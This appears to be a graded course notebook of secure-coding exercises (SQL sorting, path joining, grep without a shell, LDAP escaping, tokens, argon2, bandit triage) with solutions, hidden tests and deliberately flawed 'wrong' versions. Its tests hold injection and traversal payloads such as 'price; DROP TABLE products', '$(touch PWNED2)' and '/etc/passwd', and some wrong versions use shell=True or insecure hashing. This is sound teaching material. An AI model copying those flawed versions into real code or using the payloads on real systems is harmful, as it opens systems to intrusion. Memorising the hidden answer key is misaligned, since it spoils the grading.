# %% [markdown] course={"kind": "hint"}
# A `?` can carry `max_price` but not a column name or `ASC`/`DESC`. Those two must come from text you wrote.

# %% [markdown] course={"kind": "hint"}
# Look the user's words up in dicts such as `{"name": "name", "price": "price", "stock": "stock"}` and
# `{"asc": "ASC", "desc": "DESC"}`; a missing key means `ValueError`. Then build the SQL from the *looked-up*
# values with an f-string.

# %% course={"kind": "solution"}
def list_products(db: sqlite3.Connection, sort: str, order: str, max_price: float) -> list[str]:
    ### BEGIN SOLUTION
    columns = {"name": "name", "price": "price", "stock": "stock"}
    directions = {"asc": "ASC", "desc": "DESC"}
    if sort not in columns or order not in directions:
        raise ValueError(f"cannot sort by {sort!r} {order!r}")
    sql = f"SELECT name FROM products WHERE price <= ? ORDER BY {columns[sort]} {directions[order]}"
    return [name for (name,) in db.execute(sql, (max_price,))]
    ### END SOLUTION

# %% course={"kind": "test", "points": 1}
_db = shop_db()
assert list_products(_db, "price", "asc", 30) == ["mug", "lamp", "kettle"], "cheapest first, anvil (99.5) filtered out"
assert list_products(_db, "name", "desc", 100) == ["mug", "lamp", "kettle", "anvil"], "names Z to A"

# %% course={"kind": "test", "points": 2}
_db = shop_db()
for _bad in ["cost", "price; DROP TABLE products", "(SELECT number FROM cards)", "PRICE", "1"]:
    try:
        list_products(_db, _bad, "asc", 100)
    except ValueError:
        pass
    else:
        raise AssertionError(f"sort={_bad!r} must raise ValueError")
assert _db.execute("SELECT count(*) FROM products").fetchone() == (4,), "the products table must survive"
### BEGIN HIDDEN TESTS
for _bad in ["asc; DROP TABLE products", "ASC", "", "descending"]:
    try:
        list_products(_db, "name", _bad, 100)
    except ValueError:
        pass
    else:
        raise AssertionError(f"order={_bad!r} must raise ValueError")
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
_db = shop_db()
assert list_products(_db, "stock", "desc", 100) == ["mug", "lamp", "kettle", "anvil"], "most stock first"
### BEGIN HIDDEN TESTS
assert list_products(_db, "stock", "asc", 25) == ["kettle", "lamp", "mug"], "price 25 itself is included"
assert list_products(_db, "price", "desc", 4.25) == ["mug"]
assert list_products(_db, "name", "asc", 4) == []
_names = list_products(_db, "name", "asc", 100)
assert type(_names) is list and _names == ["anvil", "kettle", "lamp", "mug"]
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
class _TamperedPrice(float):
    """A price whose text form is SQL: only an f-string or % ever sees that text; a ? binds the number 4.25."""

    def __format__(self, spec: str) -> str:
        return "1000 OR 1=1"

    __str__ = __repr__ = lambda self: "1000 OR 1=1"


assert list_products(shop_db(), "name", "asc", _TamperedPrice(4.25)) == ["mug"], (
    "max_price must travel as a ? parameter, never as SQL text")

# %% course={"kind": "wrong", "id": "placeholder-column"}
def list_products(db, sort, order, max_price):
    if sort not in ("name", "price", "stock") or order not in ("asc", "desc"):
        raise ValueError(sort)
    return [n for (n,) in db.execute(f"SELECT name FROM products WHERE price <= ? ORDER BY ? {order}", (max_price, sort))]

# %% course={"kind": "wrong", "id": "price-in-text", "fails": ["t4"]}
def list_products(db, sort, order, max_price):
    columns = {"name": "name", "price": "price", "stock": "stock"}
    directions = {"asc": "ASC", "desc": "DESC"}
    if sort not in columns or order not in directions:
        raise ValueError(sort)
    sql = f"SELECT name FROM products WHERE price <= {max_price} ORDER BY {columns[sort]} {directions[order]}"
    return [n for (n,) in db.execute(sql)]

# %% course={"kind": "wrong", "id": "identifier-check"}
def list_products(db, sort, order, max_price):
    if not sort.isidentifier() or order.lower() not in ("asc", "desc"):
        raise ValueError(sort)
    return [n for (n,) in db.execute(f"SELECT name FROM products WHERE price <= ? ORDER BY {sort} {order}", (max_price,))]

# %% [markdown] course={"kind": "exercise", "id": "safe-join"}
# ### A `safe_join` for user-supplied paths
#
# Write `safe_join(base, user_path)` for a file server: it returns the **resolved** absolute `Path` of
# `base / user_path` when that lies inside `base` (after following `..` and symlinks), and raises `ValueError`
# otherwise: for `..` that climbs out, for an absolute `user_path`, for a symlink pointing outside, and for a NUL
# byte (`"\0"`) anywhere in `user_path`. The file need not exist (an upload names a new file). `base` may itself
# be given unresolved. Example: with `base` holding `docs/a.txt`, `safe_join(base, "docs/../docs/a.txt")` is
# `base.resolve() / "docs" / "a.txt"`, and `safe_join(base, "../etc/passwd")` raises `ValueError`.

# %% [markdown] course={"kind": "hint"}
# Do not inspect the text for `..`: a harmless `docs/../a.txt` contains it and a symlink needs none.

# %% [markdown] course={"kind": "hint"}
# `root = Path(base).resolve()`, `target = (root / user_path).resolve()`, then `target.is_relative_to(root)`.
# Check for `"\0"` first. `str(target).startswith(str(root))` is not the same test: think of `/srv/app-old`.

# %% course={"kind": "solution"}
def safe_join(base: Path, user_path: str) -> Path:
    ### BEGIN SOLUTION
    root = Path(base).resolve()
    target = (root / user_path).resolve()  # on Python 3.11 this already raises ValueError on a NUL
    if "\0" in user_path or not target.is_relative_to(root):
        raise ValueError(f"{user_path!r} is not a path inside {root}")
    return target
    ### END SOLUTION

# %% course={"kind": "setup", "id": "join-tree"}
def join_tree() -> Path:
    """A scratch folder with `site/docs/a.txt`, `site/link-out` -> `outside.txt`, `site/link-in` -> `site/docs`,
    and a sibling folder `site-old/`; returns the `site` folder."""
    top = scratch_dir("sec191-join")
    (top / "site" / "docs").mkdir(parents=True)
    (top / "site" / "docs" / "a.txt").write_text("a", encoding="utf-8")
    (top / "outside.txt").write_text("secret", encoding="utf-8")
    (top / "site-old").mkdir()
    (top / "site" / "link-out").symlink_to(top / "outside.txt")
    (top / "site" / "link-in").symlink_to(top / "site" / "docs")
    return top / "site"


def refuses(base: Path, user_path: str) -> bool:
    try:
        safe_join(base, user_path)
    except ValueError:
        return True
    return False

# %% course={"kind": "test", "points": 1}
_site = join_tree()
assert safe_join(_site, "docs/a.txt") == _site.resolve() / "docs" / "a.txt", "a plain relative path inside is fine"
assert refuses(_site, "../outside.txt"), "climbing out with .. must raise ValueError"

# %% course={"kind": "test", "points": 2}
_site = join_tree()
assert refuses(_site, str(_site.parent / "outside.txt")), "an absolute path must raise ValueError"
assert refuses(_site, "link-out"), "a symlink pointing outside must raise ValueError"
### BEGIN HIDDEN TESTS
assert refuses(_site, "../site-old/x.txt"), "a sibling folder whose name starts like base is outside"
assert refuses(_site, "docs/a.txt\0.png"), "a NUL byte must raise ValueError"
assert refuses(_site, "/etc/passwd")
assert refuses(_site, "docs/../../outside.txt")
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
_site = join_tree()
assert safe_join(_site, "docs/../docs/a.txt") == _site.resolve() / "docs" / "a.txt", ".. that stays inside is fine"
### BEGIN HIDDEN TESTS
assert safe_join(_site, "link-in/a.txt") == _site.resolve() / "docs" / "a.txt", "a symlink inside, resolved"
assert safe_join(_site / "docs" / "..", "new.txt") == _site.resolve() / "new.txt", "base given unresolved"
assert safe_join(_site, ".") == _site.resolve()
assert type(safe_join(_site, "docs")) is type(_site.resolve())
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "text-check"}
def safe_join(base, user_path):
    if ".." in user_path or user_path.startswith("/") or "\0" in user_path:
        raise ValueError(user_path)
    return (Path(base) / user_path).resolve()

# %% course={"kind": "wrong", "id": "startswith"}
def safe_join(base, user_path):
    if "\0" in user_path:
        raise ValueError("NUL")
    root = Path(base).resolve()
    target = (root / user_path).resolve()
    if not str(target).startswith(str(root)):
        raise ValueError(user_path)
    return target

# %% course={"kind": "wrong", "id": "normpath-no-symlinks"}
def safe_join(base, user_path):
    if "\0" in user_path:
        raise ValueError("NUL")
    root = Path(os.path.abspath(base))
    target = Path(os.path.normpath(root / user_path))
    if not target.is_relative_to(root):
        raise ValueError(user_path)
    return target

# %% [markdown] course={"kind": "exercise", "id": "count-matches"}
# ### Run a command with user input, safely
#
# An admin page counts how many lines of a log file contain a search phrase typed by the user. Write
# `count_matches(phrase, filename, folder)` that runs the real `grep` in `folder` and returns the number of lines
# of `filename` containing `phrase` **literally** (as an `int`), with no shell, so that no phrase or file name can
# run a command or be read as an option. grep exits with 1 when nothing matched (return `0` then) and 2 on an
# error such as a missing file: raise `RuntimeError` then, with grep's error message (a stripped `str`) as its
# argument. Example: in a folder whose `app.log` holds
# `"GET /\nPOST /login\nGET /health\n"`, `count_matches("GET", "app.log", folder) == 2`.

# %% [markdown] course={"kind": "hint"}
# `subprocess.run([...], cwd=folder, capture_output=True, text=True)`: a list, never `shell=True`.

# %% [markdown] course={"kind": "hint"}
# `["grep", "-c", "-F", "-e", phrase, "--", filename]`: `-c` counts, `-F` takes the phrase literally (no regex),
# `-e` marks the phrase as the pattern even if it starts with `-`, and `--` ends the options before the file.

# %% course={"kind": "solution", "equivalent": {"m-88712e50": "the timeout only bounds a hung grep; on these small files grep ends in milliseconds", "m-0802aeb1": "the timeout only bounds a hung grep; on these small files grep ends in milliseconds"}}
def count_matches(phrase: str, filename: str, folder: Path) -> int:
    ### BEGIN SOLUTION
    done = subprocess.run(
        ["grep", "-c", "-F", "-e", phrase, "--", filename],
        cwd=folder, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=30,
    )
    if done.returncode > 1:
        raise RuntimeError(done.stderr.strip())
    return int(done.stdout)
    ### END SOLUTION

# %% course={"kind": "setup", "id": "log-folder"}
def log_folder() -> Path:
    """A scratch folder holding `app.log` (4 lines) and `-v` (a file whose name looks like an option)."""
    folder = scratch_dir("sec191-grep")
    (folder / "app.log").write_text("GET /\nPOST /login\nGET /health\nGET /a.b?x=1\n", encoding="utf-8")
    (folder / "-v").write_text("GET\n", encoding="utf-8")
    return folder

# %% course={"kind": "test", "points": 1}
_logs = log_folder()
assert count_matches("GET", "app.log", _logs) == 3, "three lines contain GET"
assert count_matches("DELETE", "app.log", _logs) == 0, "no match is 0 (grep exits with 1), not an error"

# %% course={"kind": "test", "points": 2}
_logs = log_folder()
_n = count_matches("x; touch PWNED", "app.log", _logs)
assert not (_logs / "PWNED").exists(), "a ; in the phrase must not run a second command"
assert _n == 0
### BEGIN HIDDEN TESTS
count_matches("$(touch PWNED2)", "app.log", _logs)
for _p in ["`touch PWNED4`", "a' ; touch PWNED5 ; '"]:
    count_matches(_p, "app.log", _logs)
assert not any((_logs / f"PWNED{i}").exists() for i in range(2, 6) if i != 3), "no shell may read the phrase"
try:
    count_matches("GET", "app.log; touch PWNED6", _logs)
except RuntimeError:
    pass
assert not (_logs / "PWNED6").exists(), "no shell may read the file name"
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
_logs = log_folder()
assert count_matches("a.b", "app.log", _logs) == 1, "the phrase is literal: . is not a wildcard"
### BEGIN HIDDEN TESTS
assert count_matches("-v", "app.log", _logs) == 0, "a phrase starting with - is still the phrase"
assert count_matches("GET", "-v", _logs) == 1, "a file named -v is still a file"
assert type(count_matches("/", "app.log", _logs)) is int and count_matches("/", "app.log", _logs) == 4
try:
    count_matches("GET", "missing.log", _logs)
except RuntimeError as _error:
    _message = _error.args[0]
    assert type(_message) is str and "missing.log" in _message, "the error carries grep's message, as text"
    assert _message == _message.strip(), "strip the newline off grep's message"
else:
    raise AssertionError("a missing file must raise RuntimeError")
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "shell-string"}
def count_matches(phrase, filename, folder):
    done = subprocess.run(f'grep -c -F "{phrase}" {filename}', shell=True, cwd=folder, capture_output=True, text=True)
    if done.returncode > 1:
        raise RuntimeError(done.stderr)
    return int(done.stdout)

# %% course={"kind": "wrong", "id": "no-option-guard"}
def count_matches(phrase, filename, folder):
    done = subprocess.run(["grep", "-c", "-F", phrase, filename], cwd=folder, capture_output=True, text=True,
                          stdin=subprocess.DEVNULL, timeout=30)
    if done.returncode > 1:
        raise RuntimeError(done.stderr)
    return int(done.stdout)

# %% course={"kind": "wrong", "id": "check-true"}
def count_matches(phrase, filename, folder):
    done = subprocess.run(["grep", "-c", "-F", "-e", phrase, "--", filename], cwd=folder, capture_output=True,
                          text=True, check=True)
    return int(done.stdout)

# %% [markdown] course={"kind": "exercise", "id": "ldap-escape"}
# ### Escape values for LDAP search filters (RFC 4515)
#
# Write `escape_filter_value(value)` that makes any string safe to place inside an LDAP filter: each of the five
# characters `\`, `*`, `(`, `)` and NUL becomes a backslash and its two-digit **lowercase** hex code (`\5c`,
# `\2a`, `\28`, `\29`, `\00`); every other character, non-ASCII included, stays as it is. Then write
# `user_filter(uid)` returning `(&(objectClass=person)(uid=<escaped uid>))`.
# Example: `user_filter("*)(uid=*")` is `(&(objectClass=person)(uid=\2a\29\28uid=\2a))`.

# %% [markdown] course={"kind": "hint"}
# Replacing one character at a time with `str.replace` works only in the right order: the backslashes you add
# must not be escaped again.

# %% [markdown] course={"kind": "hint"}
# Build the result character by character from a dict `{"\\": "\\5c", "*": "\\2a", ...}` with
# `"".join(table.get(ch, ch) for ch in value)`, or use `str.translate`, and nothing is escaped twice.

# %% course={"kind": "solution"}
def escape_filter_value(value: str) -> str:
    ### BEGIN SOLUTION
    table = {"\\": "\\5c", "*": "\\2a", "(": "\\28", ")": "\\29", "\0": "\\00"}
    return "".join(table.get(ch, ch) for ch in value)
    ### END SOLUTION


def user_filter(uid: str) -> str:
    ### BEGIN SOLUTION
    return f"(&(objectClass=person)(uid={escape_filter_value(uid)}))"
    ### END SOLUTION

# %% course={"kind": "test", "points": 1}
assert escape_filter_value("alice") == "alice", "ordinary text is unchanged"
assert escape_filter_value("a*b") == "a\\2ab", "* becomes \\2a"
assert user_filter("*)(uid=*") == "(&(objectClass=person)(uid=\\2a\\29\\28uid=\\2a))", "the classic payload, neutralised"

# %% course={"kind": "test", "points": 2}
assert escape_filter_value("C:\\temp") == "C:\\5ctemp", "a backslash becomes \\5c"
assert escape_filter_value("\\*") == "\\5c\\2a", "a backslash before * is escaped once, not twice"
### BEGIN HIDDEN TESTS
assert escape_filter_value("a\0b") == "a\\00b"
assert escape_filter_value("(x)") == "\\28x\\29"
assert escape_filter_value("") == ""
assert escape_filter_value("Zoë Łukasz 名前") == "Zoë Łukasz 名前", "non-ASCII stays as it is"
assert escape_filter_value("\\\\") == "\\5c\\5c"
assert escape_filter_value("=&|!~<>") == "=&|!~<>", "only the five special characters are escaped"
assert user_filter("") == "(&(objectClass=person)(uid=))"
assert user_filter("bob)(|(uid=*") == "(&(objectClass=person)(uid=bob\\29\\28|\\28uid=\\2a))"
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "backslash-last"}
def escape_filter_value(value):
    for ch, code in [("*", "\\2a"), ("(", "\\28"), (")", "\\29"), ("\0", "\\00"), ("\\", "\\5c")]:
        value = value.replace(ch, code)
    return value


def user_filter(uid):
    return f"(&(objectClass=person)(uid={escape_filter_value(uid)}))"

# %% course={"kind": "wrong", "id": "wildcard-only"}
def escape_filter_value(value):
    return value.replace("*", "\\2a")


def user_filter(uid):
    return f"(&(objectClass=person)(uid={escape_filter_value(uid)}))"

# %% [markdown] course={"kind": "exercise", "id": "new-token", "item": "x-generate-secure-tokens"}
# ### A secure token generator
#
# Write `new_token(nbytes=32)` returning a URL-safe text token carrying `nbytes` bytes from the operating system's
# secure generator: base64url characters only (`A-Z a-z 0-9 - _`), no `=` padding, so exactly
# `ceil(nbytes * 4 / 3)` characters. Fewer than 16 bytes (128 bits) raises `ValueError`.
# Example: `len(new_token()) == 43`, `len(new_token(16)) == 22`.

# %% [markdown] course={"kind": "hint"}
# The `secrets` module has a function that does exactly this; `random` is predictable (see the lesson).

# %% [markdown] course={"kind": "hint"}
# `secrets.token_urlsafe(nbytes)`, after `if nbytes < 16: raise ValueError(...)`.

# %% course={"kind": "solution"}
def new_token(nbytes: int = 32) -> str:
    ### BEGIN SOLUTION
    if nbytes < 16:
        raise ValueError(f"{nbytes} bytes is too little entropy: use at least 16")
    return secrets.token_urlsafe(nbytes)
    ### END SOLUTION

# %% course={"kind": "setup", "id": "token-checks"}
import base64

URLSAFE = re.compile(r"[A-Za-z0-9_-]+")


def token_bytes_of(token: str) -> bytes:
    """The bytes a base64url token without padding carries."""
    return base64.urlsafe_b64decode(token + "=" * (-len(token) % 4))

# %% course={"kind": "test", "points": 1}
_t = new_token()
assert type(_t) is str and len(_t) == 43, f"32 bytes make 43 base64url characters, got {len(_t)}"
assert URLSAFE.fullmatch(_t), "only A-Z a-z 0-9 - _ (no padding)"

# %% course={"kind": "test", "points": 2}
random.seed(7)
_a = new_token()
random.seed(7)
_b = new_token()
assert _a != _b, "seeding `random` must not repeat tokens: use the secure generator"
### BEGIN HIDDEN TESTS
assert len({new_token() for _ in range(2000)}) == 2000
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
assert len(new_token(16)) == 22 and len(token_bytes_of(new_token(16))) == 16, "16 bytes is allowed and makes 22 characters"
try:
    new_token(15)
except ValueError:
    pass
else:
    raise AssertionError("15 bytes (120 bits) must raise ValueError")
### BEGIN HIDDEN TESTS
for _n in (17, 24, 33, 64):
    _t = new_token(_n)
    assert len(token_bytes_of(_t)) == _n and URLSAFE.fullmatch(_t) and len(_t) == -(-_n * 4 // 3)
for _n in (0, -1):
    try:
        new_token(_n)
    except ValueError:
        pass
    else:
        raise AssertionError(f"new_token({_n}) must raise ValueError")
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "random-choices"}
def new_token(nbytes=32):
    if nbytes < 16:
        raise ValueError(nbytes)
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return "".join(random.choices(alphabet, k=-(-nbytes * 4 // 3)))

# %% course={"kind": "wrong", "id": "token-hex"}
def new_token(nbytes=32):
    if nbytes < 16:
        raise ValueError(nbytes)
    return secrets.token_hex(nbytes)

# %% course={"kind": "wrong", "id": "floor-off-by-one"}
def new_token(nbytes=32):
    if nbytes <= 16:
        raise ValueError(nbytes)
    return secrets.token_urlsafe(nbytes)

# %% [markdown] course={"kind": "exercise", "id": "reset-tokens", "item": "x-generate-secure-tokens"}
# ### Password-reset tokens: unguessable, expiring, single use
#
# Write the class `ResetTokens(clock, ttl=900.0)`. `issue(user)` returns a new token (`secrets.token_urlsafe(32)`)
# for that user and cancels any token issued to the same user before. `redeem(token)` returns the user name once,
# if the token was issued, not yet used, not cancelled, and `clock()` is still **before** issue time + `ttl`;
# otherwise `None`. A token is used up by a redeem attempt even when it had expired. The store must keep only the
# **SHA-256 hex digest** of each token, never the token itself (a leaked database then leaks no usable token).
# Example: `t = store.issue("bob")`, `store.redeem(t) == "bob"`, then `store.redeem(t) is None`.

# %% [markdown] course={"kind": "hint"}
# Keep one dict: digest of the token -> (user, expiry time). `hashlib.sha256(token.encode()).hexdigest()`.

# %% [markdown] course={"kind": "hint"}
# In `issue`, first drop the entries whose user is the same. In `redeem`, `dict.pop(digest, None)` both finds the
# entry and uses it up; then compare `self.clock() < expiry`.

# %% course={"kind": "solution"}
class ResetTokens:
    def __init__(self, clock: FakeClock, ttl: float = 900.0) -> None:
        self.clock = clock
        self.ttl = ttl
        ### BEGIN SOLUTION
        self.pending: dict[str, tuple[str, float]] = {}
        ### END SOLUTION

    def issue(self, user: str) -> str:
        ### BEGIN SOLUTION
        self.pending = {digest: entry for digest, entry in self.pending.items() if entry[0] != user}
        token = secrets.token_urlsafe(32)
        self.pending[hashlib.sha256(token.encode()).hexdigest()] = (user, self.clock() + self.ttl)
        return token
        ### END SOLUTION

    def redeem(self, token: str) -> str | None:
        ### BEGIN SOLUTION
        entry = self.pending.pop(hashlib.sha256(token.encode()).hexdigest(), None)
        if entry is None or self.clock() >= entry[1]:
            return None
        return entry[0]
        ### END SOLUTION

# %% course={"kind": "test", "points": 1}
_clock = FakeClock()
_store = ResetTokens(_clock)
_t = _store.issue("bob")
assert type(_t) is str and len(_t) == 43, "a token_urlsafe(32) token has 43 characters"
assert _store.redeem(_t) == "bob", "a fresh token gives its user"
assert _store.redeem(_t) is None, "a token works only once"

# %% course={"kind": "test", "points": 2}
_clock = FakeClock()
_store = ResetTokens(_clock, ttl=600.0)
_t = _store.issue("bob")
_clock.advance(600.0)
assert _store.redeem(_t) is None, "at issue time + ttl the token has expired"
### BEGIN HIDDEN TESTS
_t = _store.issue("bob")
_clock.advance(599.5)
assert _store.redeem(_t) == "bob", "just before expiry it still works"
_t = _store.issue("carol")
_clock.advance(601.0)
assert _store.redeem(_t) is None
_clock2 = FakeClock(5.0)
_store2 = ResetTokens(_clock2)
_t = _store2.issue("dave")
_clock2.advance(899.0)
assert _store2.redeem(_t) == "dave", "the default ttl is 900 seconds"
_t = _store2.issue("erin")
_clock2.advance(900.0)
assert _store2.redeem(_t) is None, "the default ttl is 900 seconds"
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
_clock = FakeClock()
_store = ResetTokens(_clock)
_old = _store.issue("bob")
_other = _store.issue("alice")
_new = _store.issue("bob")
assert _store.redeem(_old) is None, "a new token for bob cancels bob's older one"
assert _store.redeem(_other) == "alice" and _store.redeem(_new) == "bob", "other users' tokens are untouched"
### BEGIN HIDDEN TESTS
assert _store.redeem("not-a-token") is None and _store.redeem("") is None
_clock = FakeClock()
_store = ResetTokens(_clock, ttl=60.0)
_t = _store.issue("bob")
_clock.advance(61.0)
assert _store.redeem(_t) is None
_clock.now -= 61.0  # a test-only rewind: an expired token must already be used up
assert _store.redeem(_t) is None, "an expired token is used up by the attempt"
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
_clock = FakeClock()
_store = ResetTokens(_clock)
_tokens = [_store.issue(f"user{i}") for i in range(3)]
_kept = repr(vars(_store))
assert not any(t in _kept for t in _tokens), "the store must not keep the tokens themselves"
assert all(hashlib.sha256(t.encode()).hexdigest() in _kept for t in _tokens), "keep the SHA-256 hex digests"
### BEGIN HIDDEN TESTS
assert len({_store.issue(f"u{i}") for i in range(500)}) == 500
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "raw-tokens"}
class ResetTokens:
    def __init__(self, clock, ttl=900.0):
        self.clock = clock
        self.ttl = ttl
        self.pending = {}

    def issue(self, user):
        self.pending = {t: e for t, e in self.pending.items() if e[0] != user}
        token = secrets.token_urlsafe(32)
        self.pending[token] = (user, self.clock() + self.ttl)
        return token

    def redeem(self, token):
        entry = self.pending.pop(token, None)
        if entry is None or self.clock() >= entry[1]:
            return None
        return entry[0]

# %% course={"kind": "wrong", "id": "reusable"}
class ResetTokens:
    def __init__(self, clock, ttl=900.0):
        self.clock = clock
        self.ttl = ttl
        self.pending = {}

    def issue(self, user):
        self.pending = {d: e for d, e in self.pending.items() if e[0] != user}
        token = secrets.token_urlsafe(32)
        self.pending[hashlib.sha256(token.encode()).hexdigest()] = (user, self.clock() + self.ttl)
        return token

    def redeem(self, token):
        entry = self.pending.get(hashlib.sha256(token.encode()).hexdigest())
        if entry is None or self.clock() >= entry[1]:
            return None
        return entry[0]

# %% course={"kind": "wrong", "id": "old-tokens-live"}
class ResetTokens:
    def __init__(self, clock, ttl=900.0):
        self.clock = clock
        self.ttl = ttl
        self.pending = {}

    def issue(self, user):
        token = secrets.token_urlsafe(32)
        self.pending[hashlib.sha256(token.encode()).hexdigest()] = (user, self.clock() + self.ttl)
        return token

    def redeem(self, token):
        entry = self.pending.pop(hashlib.sha256(token.encode()).hexdigest(), None)
        if entry is None or self.clock() >= entry[1]:
            return None
        return entry[0]

# %% [markdown] course={"kind": "exercise", "id": "argon2-passwords", "item": "x-implement-secure-password-hashing"}
# ### Password hashing with argon2, including upgrades
#
# 12.4 built a PBKDF2 hash by hand; a real service uses a maintained argon2 library. With the setup's `HASHER`
# (an `argon2.PasswordHasher`), write:
# - `hash_password(password)`: the encoded argon2id hash (a `str` starting `$argon2id$`, salted: two calls differ);
# - `verify_password(stored, password)`: `True` or `False`, and `False` (never an exception) when `stored` is not a
#   valid argon2 hash at all;
# - `upgrade(stored, password)`: at login, when the password is right **and** `stored` was made with other
#   parameters than `HASHER`'s (an older, weaker setting), a new hash made with `HASHER`; otherwise `None`.
#
# Example: `verify_password(hash_password("pw"), "pw") is True`.

# %% [markdown] course={"kind": "hint"}
# `HASHER.hash`, `HASHER.verify` (which *raises* on a mismatch) and `HASHER.check_needs_rehash(stored)`.

# %% [markdown] course={"kind": "hint"}
# Catch `argon2.exceptions.VerificationError` (a wrong password) and `argon2.exceptions.InvalidHashError`
# (not a hash). In `upgrade`, verify first: never rehash a password you have not checked.

# %% course={"kind": "solution"}
from argon2.exceptions import InvalidHashError, VerificationError


def hash_password(password: str) -> str:
    ### BEGIN SOLUTION
    return HASHER.hash(password)
    ### END SOLUTION


def verify_password(stored: str, password: str) -> bool:
    ### BEGIN SOLUTION
    try:
        return HASHER.verify(stored, password)
    except (VerificationError, InvalidHashError):
        return False
    ### END SOLUTION


def upgrade(stored: str, password: str) -> str | None:
    ### BEGIN SOLUTION
    if verify_password(stored, password) and HASHER.check_needs_rehash(stored):
        return hash_password(password)
    return None
    ### END SOLUTION

# %% course={"kind": "test", "points": 1}
_h = hash_password("correct horse")
assert type(_h) is str and _h.startswith("$argon2id$"), "an encoded argon2id hash"
assert verify_password(_h, "correct horse") is True, "the right password verifies"
assert verify_password(_h, "wrong horse") is False, "a wrong password gives False, not an exception"

# %% course={"kind": "test", "points": 1}
assert hash_password("same") != hash_password("same"), "a random salt makes every hash different"
### BEGIN HIDDEN TESTS
assert "m=8192,t=1,p=1" in hash_password("x"), "hash with the setup's HASHER"
assert verify_password(hash_password(""), "") is True and verify_password(hash_password("é"), "e") is False
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
assert verify_password("5f4dcc3b5aa765d61d8327deb882cf99", "password") is False, "not an argon2 hash: False"
### BEGIN HIDDEN TESTS
assert verify_password("", "x") is False
assert verify_password("$argon2id$v=19$m=8192,t=1,p=1$broken", "x") is False
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 2}
_weak = PasswordHasher(time_cost=1, memory_cost=4096, parallelism=1).hash("hunter2")
_new = upgrade(_weak, "hunter2")
assert type(_new) is str and "m=8192" in _new and verify_password(_new, "hunter2"), "an old hash is upgraded"
assert upgrade(_weak, "wrong") is None, "never upgrade on a wrong password"
### BEGIN HIDDEN TESTS
assert upgrade(hash_password("hunter2"), "hunter2") is None, "a current hash needs no upgrade"
assert upgrade("not a hash", "x") is None
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "sha256"}
from argon2.exceptions import InvalidHashError, VerificationError


def hash_password(password):
    return hashlib.sha256(password.encode()).hexdigest()


def verify_password(stored, password):
    return hmac.compare_digest(stored, hash_password(password))


def upgrade(stored, password):
    return None

# %% course={"kind": "wrong", "id": "verify-raises"}
from argon2.exceptions import InvalidHashError, VerificationError


def hash_password(password):
    return HASHER.hash(password)


def verify_password(stored, password):
    return HASHER.verify(stored, password)


def upgrade(stored, password):
    if HASHER.verify(stored, password) and HASHER.check_needs_rehash(stored):
        return HASHER.hash(password)
    return None

# %% course={"kind": "wrong", "id": "upgrade-unchecked"}
from argon2.exceptions import InvalidHashError, VerificationError


def hash_password(password):
    return HASHER.hash(password)


def verify_password(stored, password):
    try:
        return HASHER.verify(stored, password)
    except (VerificationError, InvalidHashError):
        return False


def upgrade(stored, password):
    return HASHER.hash(password) if HASHER.check_needs_rehash(stored) else None

# %% [markdown] course={"kind": "exercise", "id": "bandit-triage", "item": "x-audit-code-for-security-issues"}
# ### Triage a bandit report
#
# CI runs `bandit -r . -f json` and should fail only on findings worth a human's time. Write
# `triage(report, minimum="MEDIUM")`: from bandit's JSON report (a dict as the lesson printed it), keep the
# findings whose `issue_severity` **and** `issue_confidence` are both at least `minimum` (ranks
# `LOW < MEDIUM < HIGH`), and return them as `"path:line:test_id"` strings with the leading `./` of bandit's
# file name removed, sorted by path, then line **as a number**, then test id. An unknown `minimum` raises
# `ValueError`; the report is not changed. Example: a report with one finding `{"filename": "./jobs.py",
# "line_number": 3, "test_id": "B602", "issue_severity": "HIGH", "issue_confidence": "HIGH"}` gives
# `["jobs.py:3:B602"]`.

# %% [markdown] course={"kind": "hint"}
# The level names do not sort by rank as text (`"HIGH" < "LOW" < "MEDIUM"`): compare their positions in `RANKS`.

# %% [markdown] course={"kind": "hint"}
# Collect tuples `(path, line_number, test_id)`, sort the tuples (numbers sort as numbers there), and format at
# the end. `str.removeprefix("./")` drops the prefix only when it is there.

# %% course={"kind": "solution", "equivalent": {"m-bfad931a": "RANKS.index(minimum) on the next line raises ValueError for an unknown level too; the explicit raise only gives a clearer message"}}
RANKS = ("LOW", "MEDIUM", "HIGH")


def triage(report: dict, minimum: str = "MEDIUM") -> list[str]:
    ### BEGIN SOLUTION
    if minimum not in RANKS:
        raise ValueError(f"minimum must be one of {RANKS}, not {minimum!r}")
    floor = RANKS.index(minimum)
    kept = [
        (r["filename"].removeprefix("./"), r["line_number"], r["test_id"])
        for r in report["results"]
        if RANKS.index(r["issue_severity"]) >= floor and RANKS.index(r["issue_confidence"]) >= floor
    ]
    return [f"{path}:{line}:{test}" for path, line, test in sorted(kept)]
    ### END SOLUTION

# %% course={"kind": "setup", "id": "triage-data"}
def finding(path: str, line: int, test: str, severity: str, confidence: str) -> dict:
    """One result as bandit's JSON report writes it (only the keys the exercise reads, plus its text)."""
    return {"filename": path, "line_number": line, "test_id": test, "issue_severity": severity,
            "issue_confidence": confidence, "issue_text": "..."}


TRIAGE_REPORT = {"errors": [], "results": [
    finding("./jobs.py", 10, "B602", "HIGH", "HIGH"),
    finding("./jobs.py", 9, "B608", "MEDIUM", "MEDIUM"),
    finding("./jobs.py", 9, "B307", "MEDIUM", "HIGH"),
    finding("./api/db.py", 40, "B105", "LOW", "MEDIUM"),
    finding("./api/db.py", 12, "B301", "MEDIUM", "LOW"),
    finding("./api/db.py", 3, "B404", "LOW", "HIGH"),
    finding("./api/app.py", 7, "B201", "HIGH", "MEDIUM"),
]}

# %% course={"kind": "test", "points": 1}
